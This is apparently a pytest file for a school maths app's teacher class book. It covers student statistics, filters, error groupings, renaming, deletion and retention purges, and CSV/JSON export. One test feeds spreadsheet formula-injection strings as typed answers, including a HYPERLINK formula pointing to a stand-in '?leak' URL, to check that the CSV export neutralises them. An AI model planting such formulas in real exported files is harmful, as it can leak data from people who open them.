"""The teacher's side of the class book, on SQLite and on PostgreSQL: who practised what, where
the class got stuck, which targets were hard (filtered by date and game), the export, and the
school's privacy duties: rename, forget, keep records only so many days."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

from mathcards.book import BookError, NameTaken, Step, UnknownClass, UnknownStudent
from mathcards.book.export import BOM

EASY, HARD = [1, 2, 3, 4, 5], [7, 6, 12, 2, 15]


def wrong(deal: int, cards: list[int], target: int, sentence: str, kind: str = "total") -> Step:
    return Step("answer", deal, cards, target, "1+1", False, kind, sentence)


def right(deal: int, cards: list[int], target: int, hints: int = 0) -> Step:
    return Step("answer", deal, cards, target, "ok", True, "correct", "right", hints_used=hints)


@pytest.fixture
def lesson(book, school_clock):
    """A lesson of 5b: Ann solves the easy deal after a hint and misses the hard one; Bo misses
    both, twice the same way; Cy only plays a game of LAMA and answers a decision."""
    ann, bo, cy = (book.join("5b", name, f"{name}-cookie") for name in ("Ann", "Bo", "Cy"))
    book.join("6a", "Dee", "dee-cookie")
    one = book.start_set(ann.id, level="normal", power=False, rounds=2, seed=1)
    book.record_step(one, Step("hint", 1, EASY, 10, hints_used=1))
    book.record_step(one, right(1, EASY, 10, hints=1))
    book.record_step(one, Step("next", 1, EASY, 10))
    book.record_step(one, wrong(2, HARD, 32, "that makes 31, not 32"))
    two = book.start_set(bo.id, level="normal", power=False, rounds=2, seed=1)
    book.record_step(
        two, wrong(1, list(reversed(EASY)), 10, "12 is not on the table", "not-on-table")
    )
    book.record_step(two, wrong(1, EASY, 10, "12 is not on the table", "not-on-table"))
    book.record_step(two, Step("next", 1, EASY, 10))
    book.record_step(two, wrong(2, HARD, 32, "that makes 31, not 32"))
    school_clock.wind(days=1)
    book.record_game(
        cy.id,
        "lama",
        players=["Cy", "Bot"],
        scores={"Cy": 5},
        winners=["Cy"],
        seed=3,
        finished=True,
    )
    book.record_decision(cy.id, "lama", situation={"hand": [1, 1]}, choice="quit", best="quit")
    return ann, bo, cy


def test_the_teacher_sees_what_each_student_did(book, lesson, school_clock):
    ann, bo, cy = book.students("5b")
    assert (ann.nickname, bo.nickname, cy.nickname) == ("Ann", "Bo", "Cy")
    assert (ann.sets, ann.answers, ann.deals_solved, ann.hints_used) == (1, 2, 1, 1)
    assert (bo.sets, bo.answers, bo.deals_solved, bo.hints_used) == (1, 3, 0, 0)
    assert (cy.sets, cy.games, cy.decisions, cy.decisions_right) == (0, 1, 1, 1)
    assert ann.last_seen == school_clock.now - timedelta(days=1)
    assert cy.last_seen == school_clock.now
    assert [line.nickname for line in book.students("6a")] == ["Dee"]
    assert book.students("7c") == []


def test_the_teacher_filters_by_date_and_game(book, lesson, school_clock):
    today = school_clock.now
    ann, bo, cy = book.students("5b", since=today)
    assert (ann.answers, bo.answers, cy.games) == (0, 0, 1)
    assert ann.last_seen is None
    ann, bo, cy = book.students("5b", until=today)
    assert (ann.answers, bo.answers, cy.games, cy.decisions) == (2, 3, 0, 0)
    ann, bo, cy = book.students("5b", game="lama")
    assert (ann.answers, ann.sets, cy.games, cy.decisions) == (0, 0, 1, 1)
    assert book.stuck("5b", since=today) == [] and book.hard_targets("5b", game="lama") == []


def test_the_teacher_sees_where_the_class_got_stuck(book, lesson):
    first, second = book.stuck("5b")
    assert tuple(first) == ("not-on-table", "12 is not on the table", 2, ["Bo"])
    assert (second.sentence, second.count, second.nicknames) == (
        "that makes 31, not 32",
        2,
        ["Ann", "Bo"],
    )


def test_the_teacher_sees_which_targets_the_class_found_hard(book, lesson):
    hard, easy = book.hard_targets("5b")
    assert (hard.cards, hard.target, hard.tries, hard.solved, hard.students) == (
        (2, 6, 7, 12, 15),
        32,
        2,
        0,
        2,
    )
    cards, target, tries, solved, students = easy
    assert (cards, target, tries, solved, students) == ((1, 2, 3, 4, 5), 10, 3, 1, 2)


def test_a_student_is_renamed_but_never_onto_a_classmate(book, lesson):
    book.rename("5b", "bo", "Bob")
    assert [line.nickname for line in book.students("5b")] == ["Ann", "Bob", "Cy"]
    assert book.student_for("Bo-cookie").nickname == "Bob"
    book.rename("5b", "Bob", "BOB")  # only its case
    with pytest.raises(NameTaken, match="already called Ann"):
        book.rename("5b", "BOB", "ann")
    with pytest.raises(UnknownStudent, match="no student called Zed in the class 5b"):
        book.rename("5b", "Zed", "Zoe")
    assert book.join("5b", "Bo", "new-cookie").nickname == "Bo"  # the old name is free


def test_a_forgotten_student_is_gone_everywhere(book, lesson):
    assert book.forget("5b", "Bo") == 4 + 1 + 1 + 1  # steps, set, device, student
    assert [line.nickname for line in book.students("5b")] == ["Ann", "Cy"]
    assert book.student_for("Bo-cookie") is None
    assert all("Bo" not in group.nicknames for group in book.stuck("5b"))
    exported = csv.DictReader(io.StringIO(book.export().removeprefix(BOM)))
    assert {line["student"] for line in exported} == {"Ann", "Cy"}
    assert '"Bo"' not in book.export(fmt="json")
    assert book.forget(None, "Dee") == 2  # the only Dee: no class needed
    with pytest.raises(UnknownStudent, match="no student called Bo in the class book"):
        book.forget(None, "Bo")


def test_forgetting_a_nickname_of_two_classes_asks_which(book, lesson):
    book.join("6a", "Ann", "other-ann")
    with pytest.raises(BookError, match=r"Ann in several classes \(5b, 6a\)"):
        book.forget(None, "Ann")
    book.forget("6a", "Ann")
    assert "Ann" in [line.nickname for line in book.students("5b")]


def test_records_older_than_the_days_kept_are_deleted(book, lesson, school_clock):
    assert book.purge(keep_days=365) == 0
    school_clock.wind(days=365)  # a year after Cy's game, a year and a day after the lesson
    sets, steps, students, devices, classes = 2, 8, 3, 3, 1  # Ann's, Bo's; Dee and 6a
    assert book.purge(keep_days=365) == sets + steps + students + devices + classes
    (cy,) = book.students("5b")
    assert (cy.nickname, cy.games, cy.decisions) == ("Cy", 1, 1)
    assert [
        line["student"] for line in csv.DictReader(io.StringIO(book.export().removeprefix(BOM)))
    ] == ["Cy"] * 2
    school_clock.wind(days=1)
    assert book.purge(keep_days=365) == 1 + 1 + 1 + 1 + 1  # game, decision, Cy, device, 5b
    assert book.students("5b") == [] and json.loads(book.export(fmt="json")) == {"classes": []}
    with pytest.raises(BookError, match="whole number of days"):
        book.purge(keep_days=-1)


def test_a_set_still_in_use_is_kept_whole(book, school_clock):
    ann = book.join("5b", "Ann", "a")
    practice = book.start_set(ann.id, level="normal", power=False, rounds=8, seed=1)
    book.record_step(practice, wrong(1, EASY, 10, "no"))
    school_clock.wind(days=30)
    book.record_step(practice, right(1, EASY, 10))
    assert book.purge(keep_days=10) == 0  # its first step is old, the set is not
    assert [step.seq for step in book.open_set(ann.id).steps] == [1, 2]


def test_the_export_has_every_answer_game_and_decision_as_csv(book, lesson):
    lines = list(csv.DictReader(io.StringIO(book.export("5b").removeprefix(BOM))))
    assert [line["record"] for line in lines] == ["step"] * 8 + ["game", "decision"]
    first = lines[0]
    assert (first["class"], first["student"], first["game"], first["kind"]) == (
        "5b",
        "Ann",
        "mam",
        "hint",
    )
    assert json.loads(lines[1]["cards"]) == EASY and lines[1]["correct"] == "True"
    assert lines[1]["at"].startswith("2026-09-01T08:00:00")
    assert json.loads(lines[8]["scores"]) == {"Cy": 5} and lines[8]["seed"] == "3"
    assert (lines[9]["choice"], lines[9]["best"], lines[9]["correct"]) == ("quit", "quit", "True")
    everyone = list(csv.DictReader(io.StringIO(book.export().removeprefix(BOM))))
    assert {line["class"] for line in everyone} == {"5b"}  # Dee of 6a did nothing yet


def test_the_export_as_json_is_classes_students_and_their_records(book, lesson):
    (room,) = json.loads(book.export("5b", fmt="json"))["classes"]
    assert room["name"] == "5b"
    ann, _bo, cy = room["students"]
    (practice,) = ann["sets"]
    assert (practice["seed"], practice["level"]) == (1, "normal")
    assert [step["kind"] for step in practice["steps"]] == ["hint", "answer", "next", "answer"]
    assert practice["steps"][3]["sentence"] == "that makes 31, not 32"
    assert cy["games"][0]["players"] == ["Cy", "Bot"] and cy["decisions"][0]["correct"] is True
    everyone = json.loads(book.export(fmt="json"))["classes"]
    assert [room["name"] for room in everyone] == ["5b", "6a"]


def test_the_export_refuses_an_unknown_class_or_format(book, lesson):
    with pytest.raises(UnknownClass, match="no class 7c"):
        book.export("7c")
    with pytest.raises(BookError, match="csv, json, not 'xml'"):
        book.export(fmt="xml")


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(book):
    mischief = book.join("5b", "Ola", "ola-cookie")
    practice = book.start_set(mischief.id, level="normal", power=False, rounds=2, seed=1)
    typed = [
        '=HYPERLINK("http://example.org/?leak","Click")',
        "+1+2",
        "-3+4",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "7+3",
    ]
    for text in typed:
        book.record_step(practice, Step("answer", 1, EASY, 10, text, False, "total", "no"))
    exported = io.StringIO(book.export("5b").removeprefix(BOM), newline="")
    cells = [line["typed"] for line in csv.DictReader(exported)]
    assert cells == ["'" + text for text in typed[:-1]] + ["7+3"]
    (room,) = json.loads(book.export("5b", fmt="json"))["classes"]
    kept = [step["typed"] for step in room["students"][0]["sets"][0]["steps"]]
    assert kept == typed, "the JSON keeps what was typed as it was"


def test_a_class_with_no_record_yet_exports_an_empty_file_when_asked(book):
    assert (
        list(csv.DictReader(io.StringIO(book.export("7c", missing_ok=True).removeprefix(BOM))))
        == []
    )
    assert json.loads(book.export("7c", fmt="json", missing_ok=True)) == {"classes": []}
